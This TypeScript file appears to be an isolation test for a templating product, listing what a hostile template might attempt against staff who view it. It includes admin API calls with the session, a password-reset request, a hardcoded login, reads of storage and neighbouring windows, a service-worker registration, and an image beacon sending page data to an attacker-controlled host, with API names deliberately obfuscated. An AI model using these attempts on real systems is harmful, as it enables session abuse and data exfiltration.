/** What the attempts know: where the staff is, and a host that is the attacker's. */
export interface Known {
  readonly staff: string;
  readonly far: string;
}

/**
 * What a hostile template would try on the staff who look at it: their session, their storage, the page around. Runs in the
 * page; `true` says that it got there. Names are put together, as one would who hides from readers of code.
 */
export async function attemptOnStaff({ staff, far }: Known): Promise<Record<string, unknown>> {
  // oxlint-disable-next-line typescript/no-unnecessary-type-parameters -- what a name stands for, only who asks knows
  const of = <T>(name: string, from: object = window) => Reflect.get(from, name) as T; // by a name that no reader of code finds
  const ask = of<typeof fetch>(['fe', 'tch'].join(''));
  const around = of<Window | null>(['par', 'ent'].join(''));
  const opener = of<Window | null>(['open', 'er'].join(''));
  const topmost = of<Window | null>(['t', 'op'].join(''));
  const kept = of<CacheStorage>(['cach', 'es'].join(''));
  const CLIENTS = '/api/dashboard/admin/clients/overview';
  const isSeen = (other: Window | null) => other !== null && other !== window && other.document.body !== null;
  const attempts: Record<string, () => Promise<unknown>> = {
    'the API with the session': async () => (await ask(CLIENTS)).ok,
    'the API of the staff’s origin': async () => (await ask(staff + CLIENTS, { credentials: 'include' })).ok,
    'a password reset': async () => {
      // where it gets there that couple's password is a new one: it is nobody's whom another test logs in as
      const reset = await ask('/api/dashboard/admin/clients/200/reset-password', { method: 'POST' });
      return reset.status !== 404 && reset.status !== 401;
    },
    'a log-in as staff': async () => {
      const body = JSON.stringify({ username: 'admin', password: 'janur-admin' });
      const headers = { 'content-type': 'application/json' };
      return (await ask('/api/public/auth/login', { method: 'POST', headers, body })).ok;
    },
    'the page around it': async () => isSeen(around),
    'the page on top': async () => isSeen(topmost),
    'the page that opened it': async () => isSeen(opener),
    'the page around it, by a common domain': async () => {
      Reflect.set(document, 'domain', location.hostname);
      return isSeen(around);
    },
    'the door’s kept page': async () => (await kept.keys()).some((name) => name.startsWith('janur-door')),
    'the door’s guests': async () => (await indexedDB.databases()).some(({ name }) => name?.startsWith('janur-door')),
    'what the staff keeps': async () => localStorage.getItem('janur.canary') !== null,
    'the door’s worker': async () => {
      const workers = of<ServiceWorkerContainer>(['service', 'Worker'].join(''), navigator);
      const found = await workers.getRegistration('/guest-book');
      if (found) return true;
      return Boolean(await workers.register('/guest-book/worker.js', { scope: '/guest-book' }));
    },
    'a frame of the staff': () =>
      new Promise((done) => {
        const frame = Object.assign(document.createElement('iframe'), { src: `${staff}/dashboard` });
        frame.addEventListener('load', () => done(frame.contentDocument?.getElementById('root') != null));
        document.body.append(frame);
      }),
    'a window of the staff': async () => {
      const opened = window.open(`${staff}/dashboard`);
      // until the staff's page has come the window is an empty one of this page's own
      for (let tries = 0; tries < 20 && opened?.location.href === 'about:blank'; tries += 1)
        await new Promise((done) => setTimeout(done, 100));
      return isSeen(opened);
    },
    'a script of the staff’s origin that is a template’s': async () => {
      const found = await ask(`${staff}/remotes/template-1/`);
      return found.ok;
    },
    'what it sends as a picture': () =>
      new Promise((done) => {
        const picture = new Image();
        picture.addEventListener('load', () => done(true));
        picture.addEventListener('error', () => done(false));
        picture.src = `${far}/?seen=${document.title}`;
      }),
  };
  const outcomes: Record<string, unknown> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    const late = new Promise((done) => setTimeout(() => done('no answer'), 2500));
    outcomes[name] = await Promise.race([
      attempt().catch((error: unknown) => `stopped: ${error instanceof Error ? error.name : 'yes'}`),
      late,
    ]);
  }
  return outcomes;
}
